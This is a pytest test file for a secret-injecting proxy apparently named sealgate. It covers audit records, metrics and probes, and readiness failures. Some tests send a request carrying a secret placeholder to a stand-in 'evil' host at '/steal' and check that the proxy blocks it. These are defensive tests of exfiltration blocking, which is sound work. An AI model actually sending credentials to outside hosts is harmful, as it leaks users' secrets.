"""Operators: the audit trail and `sealgate audit`, probes and metrics, one log line per decision.
None of them ever holds a value, a query string or a session credential."""

from __future__ import annotations

import json
import sqlite3
import urllib.request

from conftest import curl, make_proxy


def fetch(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url, timeout=5) as r:
            return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()


def test_audit_records_every_injection_and_block(proxy, api, evil, user, value):
    proxy.add_secret(user, "K", value, api.origin)
    s = proxy.issue(user=user, runchat="rc-audit", instance="in-audit")
    ph = s["env"]["K"]
    assert curl(s, api.url(f"/v1/things?key={ph}"), "-H", f"X-Key: {ph}").status == 200
    assert curl(s, evil.url("/steal?x=1"), "-H", f"X-Key: {ph}").status == 403
    assert curl(s, api.url("/no-placeholder")).status == 200
    out = proxy.cli("audit", "--user", user, "--json").stdout
    records = json.loads(out)
    assert [r["decision"] for r in records] == ["block", "allow"]  # newest first; plain requests are not decisions
    block, allow = records
    assert allow.pop("client").startswith("127.0.0.1:")
    assert allow | {"at": None} == {
        "at": None, "session": s["session_id"], "runchat": "rc-audit", "instance": "in-audit", "principal": user,
        "secrets": ["K"], "method": "GET", "origin": api.origin, "path": "/v1/things", "decision": "allow",
        "code": None, "status": 200}
    assert block["code"] == "origin_not_allowed" and block["status"] == 403 and block["origin"] == evil.origin
    assert block["path"] == "/steal" and block["secrets"] == []
    text = proxy.cli("audit", "--runchat", "rc-audit").stdout
    assert text.count("\n") == 2 and "allow\t-\t200" in text and "block\torigin_not_allowed\t403" in text
    credential = s["proxy_url"].split("@")[0].rsplit(":", 1)[1]
    for secret in (value, credential, "key=", ph):
        assert secret not in out + text
    log = proxy.log.read_text()
    assert f"decision=allow code=- session={s['session_id']} principal={user} runchat=rc-audit secrets=K" in log
    assert value not in log and credential not in log


def test_audit_filters_and_errors(proxy, api, user, value):
    proxy.add_secret(user, "K", value, api.origin)
    s = proxy.issue(user=user, runchat="rc-filter")
    curl(s, api.url("/x"), "-H", f"X-Key: {s['env']['K']}")
    assert len(json.loads(proxy.cli("audit", "--user", user, "--since", "5m", "--json").stdout)) == 1
    assert json.loads(proxy.cli("audit", "--user", user, "--since", "2099-01-01T00:00:00Z", "--json").stdout) == []
    assert json.loads(proxy.cli("audit", "--runchat", "no-such-runchat", "--json").stdout) == []
    r = proxy.cli("audit", "--since", "yesterday", check=False)
    assert r.returncode == 1 and r.stderr.startswith("sealgate: error: --since: 'yesterday' is neither")


def test_probes_and_metrics(proxy, api, evil, user, value):
    assert fetch(proxy.metrics_url + "/healthz") == (200, "ok\n")
    status, body = fetch(proxy.metrics_url + "/readyz")
    assert status == 200 and json.loads(body) == {"ready": True}
    before = fetch(proxy.metrics_url + "/metrics")[1]
    proxy.add_secret(user, "K", value, api.origin)
    s = proxy.issue(user=user)
    curl(s, api.url("/x"), "-H", f"X-Key: {s['env']['K']}")
    curl(s, evil.url("/x"), "-H", f"X-Key: {s['env']['K']}")
    after = fetch(proxy.metrics_url + "/metrics")[1]

    def value_of(text: str, name: str) -> float:
        return next((float(line.split()[-1]) for line in text.splitlines() if line.startswith(name + " ")), 0.0)
    assert value_of(after, "sealgate_injections_total") == value_of(before, "sealgate_injections_total") + 1
    assert value_of(after, 'sealgate_blocks_total{code="origin_not_allowed"}') >= 1
    assert value_of(after, "sealgate_requests_total") >= value_of(before, "sealgate_requests_total") + 2
    assert value_of(after, "sealgate_request_duration_seconds_count") >= 2
    assert 'sealgate_request_duration_seconds_bucket{le="+Inf"}' in after
    assert fetch(proxy.metrics_url + "/nope")[0] == 404
    assert value not in after


def test_metrics_port_is_not_reachable_through_the_proxy(proxy, user):
    s = proxy.issue(user=user)
    port = proxy.env["SEALGATE_METRICS_PORT"]
    r = curl(s, f"http://127.0.0.1:{port}/metrics")
    assert r.status == 403 and r.headers["x-sealgate-error"] == "destination_blocked" and b"own port" in r.body


def test_readyz_says_when_the_store_cannot_be_read(tmp_path, pki):
    p = make_proxy(tmp_path, pki)
    p.start()
    try:
        assert fetch(p.metrics_url + "/readyz")[0] == 200
        con = sqlite3.connect(p.data_dir / "sealgate.db")
        con.execute("drop table secrets")
        con.commit()
        con.close()
        status, body = fetch(p.metrics_url + "/readyz")
        assert status == 503 and "cannot be read" in json.loads(body)["reason"]
        assert fetch(p.metrics_url + "/healthz")[0] == 200
    finally:
        p.stop()


def test_a_key_removed_under_a_running_proxy_is_never_replaced(tmp_path, pki, api, user, value):
    p = make_proxy(tmp_path, pki)
    p.add_secret(user, "K", value, api.origin)
    p.start()
    try:
        assert fetch(p.metrics_url + "/readyz")[0] == 200
        (p.data_dir / "master.key").unlink()
        status, body = fetch(p.metrics_url + "/readyz")
        assert status == 503 and "was removed or replaced while sealgate ran" in json.loads(body)["reason"]
        r = p.cli("secret", "add", "--user", user, "--name", "L", "--origins", api.origin, input=value + "-l",
                  check=False)
        assert r.returncode == 1 and "is missing, and the store" in r.stderr and "restore the key" in r.stderr
        assert not (p.data_dir / "master.key").exists()  # no new key: every sealed row stays readable
        r = p.cli("session", "issue", "--access", "signed-in", "--user", user, "--runchat", "r", "--instance", "i",
                  check=False)
        assert r.returncode == 1 and "is missing" in r.stderr
    finally:
        p.stop()
